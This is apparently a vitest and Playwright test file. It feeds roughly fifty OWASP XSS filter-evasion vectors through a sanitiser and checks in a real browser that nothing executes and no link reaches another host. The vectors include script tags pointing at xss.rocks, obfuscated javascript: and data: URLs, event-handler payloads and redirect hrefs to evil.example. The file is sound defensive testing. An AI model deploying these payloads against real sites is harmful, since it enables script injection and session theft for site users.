/**
 * The OWASP XSS filter-evasion vectors (cheat sheet), through the sanitiser every stored or
 * rendered rich text passes, then into a real browser: nothing may run, no handler or script URL
 * may survive, and no link may lead to another host.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Browser } from 'playwright-core';
import { safeHref, sanitizeHtml } from '../../src/lib/html/sanitize.ts';
import { launchChromium } from './browser.ts';

const RUN = 'window.__xss=1';
const VECTORS = [
  `<SCRIPT SRC=https://xss.rocks/xss.js></SCRIPT>`,
  `<script>${RUN}</script>`,
  `<IMG SRC="javascript:${RUN};">`,
  `<IMG SRC=javascript:${RUN}>`,
  `<IMG SRC=JaVaScRiPt:${RUN}>`,
  `<IMG SRC=\`javascript:${RUN}\`>`,
  `<a onmouseover="${RUN}">xxs link</a>`,
  `<IMG """><SCRIPT>${RUN}</SCRIPT>"\\>`,
  `<IMG SRC=# onmouseover="${RUN}">`,
  `<IMG SRC=/ onerror="${RUN}"></img>`,
  `<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058${RUN}">`,
  `<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;${RUN}>`,
  `<IMG SRC="jav\tascript:${RUN};">`,
  `<IMG SRC="jav&#x09;ascript:${RUN};">`,
  `<IMG SRC="jav&#x0A;ascript:${RUN};">`,
  `<IMG SRC=" &#14;  javascript:${RUN};">`,
  `<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>`,
  `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=${RUN}>`,
  `<<SCRIPT>${RUN}//<</SCRIPT>`,
  `<SCRIPT SRC=http://xss.rocks/xss.js?< B >`,
  `<IMG SRC="\`<javascript:${RUN}>\`"`,
  `<iframe src=http://xss.rocks/scriptlet.html <`,
  `</TITLE><SCRIPT>${RUN}</SCRIPT>`,
  `<INPUT TYPE="IMAGE" SRC="javascript:${RUN};">`,
  `<BODY BACKGROUND="javascript:${RUN}">`,
  `<svg/onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<BGSOUND SRC="javascript:${RUN};">`,
  `<LINK REL="stylesheet" HREF="javascript:${RUN};">`,
  `<STYLE>@import'http://xss.rocks/xss.css';</STYLE>`,
  `<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:${RUN};">`,
  `<IFRAME SRC="javascript:${RUN};"></IFRAME>`,
  `<TABLE BACKGROUND="javascript:${RUN}">`,
  `<DIV STYLE="background-image: url(javascript:${RUN})">`,
  `<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>`,
  `<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
  `<a href="javascript&colon;${RUN}">x</a>`,
  `<a href="&#x6A;avascript:${RUN}">x</a>`,
  `<a href="  javascript:${RUN}">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<p><a href="/\\evil.example">backslash</a></p>`,
  `<p><a href="/&#9;/evil.example">tab</a></p>`,
  `<p><a href="//evil.example">protocol-relative</a></p>`,
  `<p><a href="https:\\\\evil.example">backslashes</a></p>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<details open ontoggle=${RUN}>`,
  `<p style="x:expression(${RUN})">old IE</p>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<textarea><img src=x onerror=${RUN}></textarea>`,
];

let browser: Browser;
beforeAll(async () => {
  browser = await launchChromium();
}, 60_000);
afterAll(async () => {
  await browser?.close();
});

describe('OWASP filter-evasion vectors', () => {
  it('leave nothing that runs, no handler, no script URL, only same-site or http(s) links', () => {
    for (const v of VECTORS) {
      const out = sanitizeHtml(v);
      expect(out, v).not.toMatch(/<(script|img|iframe|svg|math|object|embed|style|link|meta|form|input|body|table|div|details|template|textarea|noscript|bgsound)\b/i);
      expect(out, v).not.toMatch(/\son\w+\s*=/i);
      expect(out, v).not.toMatch(/\s(style|src|background|action|data)\s*=/i);
      for (const m of out.matchAll(/href="([^"]*)"/g)) {
        const href = m[1]!.replaceAll('&amp;', '&');
        expect(safeHref(href), `${v} → ${href}`).toBe(href);
        expect(href, v).toMatch(/^(https?:\/\/[^/\\]|mailto:|\/[^/\\]|#)/);
      }
    }
  });

  it('run nothing in a real browser, hovered, clicked and scrolled', async () => {
    const page = await browser.newPage();
    await page.route('**/*', (r) => r.abort());
    await page.setContent(`<!doctype html><body>${VECTORS.map((v) => `<section>${sanitizeHtml(v)}</section>`).join('\n')}</body>`);
    for (const el of await page.$$('a, p, section')) {
      await el.hover({ timeout: 300 }).catch(() => {});
    }
    await page.waitForTimeout(200);
    expect(await page.evaluate(() => (window as unknown as { __xss?: number }).__xss)).toBeUndefined();
    // Every link left goes to this site or to an http(s) host named in the text.
    const hosts = await page.$$eval('a[href]', (as) => as.map((a) => (a as HTMLAnchorElement).href));
    for (const h of hosts) expect(new URL(h).hostname, h).not.toBe('evil.example');
    await page.close();
  });

  it('/\\evil.example and its cousins are not links to another host', () => {
    for (const href of ['/\\evil.example', '/\t/evil.example', '/\n/evil.example', '//evil.example', 'https:\\\\evil.example', '\\\\evil.example', 'javascript:alert(1)', ' /x']) {
      const out = sanitizeHtml(`<a href="${href.replace(/"/g, '&quot;')}">x</a>`);
      expect(out, JSON.stringify(href)).toBe(href === ' /x' ? '<a href="/x" rel="nofollow noopener">x</a>' : '<a>x</a>');
    }
  });
});
